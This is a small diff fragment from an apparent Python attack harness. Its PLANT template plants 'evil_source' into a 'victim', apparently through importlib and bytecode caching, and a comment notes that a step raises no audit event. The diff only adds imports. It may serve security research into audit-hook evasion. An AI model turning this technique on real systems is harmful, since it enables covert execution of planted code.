@@ -79,7 +79,7 @@ ATTACKS = {
 
 PLANT = '''
 import importlib._bootstrap as _bootstrap, importlib._bootstrap_external as _external
-import importlib.machinery as _machinery, importlib.util as _util, os, sys
+import importlib.machinery as _machinery, importlib.util as _util, os, sys, types, marshal
 def run(victim, marker):
     sys.dont_write_bytecode = False     # no event
     evil_source = {evil_source!r}
